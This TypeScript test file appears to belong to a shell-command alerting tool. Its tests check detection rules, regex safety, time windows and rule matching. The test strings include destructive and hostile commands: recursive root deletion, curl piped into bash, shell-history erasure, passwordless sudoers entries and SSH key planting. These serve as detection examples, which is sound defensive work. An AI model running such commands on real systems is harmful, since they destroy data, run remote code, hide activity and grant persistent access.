import { alertRuleDraftSchema, type CommandEvent } from '@omanager/contract';
import { expect, it } from 'vitest';
import { compileRule } from './matcher.ts';
import { compilePattern } from './pattern.ts';
import { starterRules } from './starterRules.ts';
import { compileWindow } from './window.ts';

const found = (text: string) =>
  starterRules.filter(({ rule }) => compilePattern(rule.pattern, rule.ignoreCase)(text)).map(({ key }) => key);

it.each([
  ['rm -rf /', 'remove-root'],
  ['sudo rm -r -f /etc/', 'remove-root'],
  ['cd x && /bin/rm -fr "/usr"', 'remove-root'],
  ['rm --recursive --force /*', 'remove-root'],
  ['curl -fsSL https://x.example/i.sh | sudo bash', 'download-to-shell'],
  ['bash <(curl -s https://x.example)', 'download-to-shell'],
  ['sh -c "$(curl -fsSL https://x.example)"', 'download-to-shell'],
  ['unset HISTFILE', 'history'],
  ['history -c', 'history'],
  ['export HISTSIZE=0', 'history'],
  ['ln -sf /dev/null ~/.bash_history', 'history'],
  ['sudo passwd root', 'passwords'],
  ['visudo', 'sudoers'],
  ['echo "ada ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/ada', 'sudoers'],
  ['cat key.pub >> ~/.ssh/authorized_keys', 'ssh-keys'],
  ['sudo systemctl stop nginx', 'service-stop'],
  ['service mysql stop', 'service-stop'],
])('%s is found by the starter rule %s', (text, key) => expect(found(text)).toEqual([key]));

it.each([
  ...['rm -rf ./build', 'rm -rf /opt/shop/tmp', 'rm /tmp/x', 'ls /', 'curl https://x.example -o a.sh'],
  ...['history | grep ssh', 'cat /etc/passwd', 'cat /etc/sudoers', 'systemctl status nginx', 'man passwd'],
])('%s is found by none', (text) => expect(found(text)).toEqual([]));

it('a pattern takes linear time; what is none, or grows beyond bounds, is refused', () => {
  expect(compilePattern('^(a+)+$', false)(`${'a'.repeat(60_000)}b`)).toBe(false);
  for (const bad of ['(', '(?=x)', '(a)\\1', '((a{100}){100}){10}'])
    expect(() => compilePattern(bad, false), bad).toThrow(/pattern/);
});

it.each([
  ['rm (x', { fault: 'parenthesis' }],
  ['rm x)', { fault: 'closing' }],
  ['rm [z-a]', { fault: 'range', part: 'z-a', position: 5 }],
  ['rm (?=x)', { fault: 'unsupported', part: '(?=', position: 4 }],
  ['(a)\\1', { fault: 'escape', part: '\\1', position: 4 }],
  ['((a{100}){100}){10}', { fault: 'repeatCount', part: '{100}' }],
])('the error of %s says where and why', (pattern, fault) => {
  const details = { field: 'pattern', ...fault };
  expect(() => compilePattern(pattern, false)).toThrow(expect.objectContaining({ details }));
});

it('a window is of the zone it names, and over midnight belongs to the day it began', () => {
  const night = compileWindow({ days: [5], from: '22:00', to: '06:00', timeZone: 'Asia/Shanghai' });
  // 2026-11-20 is a Friday; Shanghai is 8 hours ahead.
  expect(night(Date.parse('2026-11-20T13:59:00Z'))).toBe(false);
  expect(night(Date.parse('2026-11-20T14:00:00Z'))).toBe(true);
  expect(night(Date.parse('2026-11-20T21:59:00Z'))).toBe(true);
  expect(night(Date.parse('2026-11-20T22:00:00Z'))).toBe(false);
  expect(night(Date.parse('2026-11-19T21:00:00Z'))).toBe(false);
  expect(() => compileWindow({ days: [1], from: '00:00', to: '00:00', timeZone: 'Mars/Base' })).toThrow(/time zone/);
});

it('every part of a rule must be true', () => {
  const draft = { name: 'x', severity: 'info', pattern: 'RM', ignoreCase: true, users: ['root'] };
  const rule = compileRule(alertRuleDraftSchema.parse({ ...draft, servers: 'group:web', environments: ['Pro*'] }));
  const event = { kind: 'command', text: 'rm x', at: '2026-11-20T13:59:00Z', user: 'root', claimedUser: 'ada' };
  // Only what a rule looks at.
  const may = (more: Partial<CommandEvent>) => rule.mayMatch({ ...event, ...more } as CommandEvent);
  expect([may({}), may({ user: 'ada' }), may({ user: '', claimedUser: 'root' }), may({ kind: 'gap' })]).toEqual([
    ...[true, false, true, false],
  ]);
  const host = { name: 'w1', groups: ['web/www'], labels: {}, environment: 'prod', zone: 'default' };
  expect(rule.matchesHost?.(host)).toBe(true);
  expect(rule.matchesHost?.({ ...host, environment: 'test' })).toBe(false);
  expect(rule.matchesHost?.({ ...host, groups: [] })).toBe(false);
});
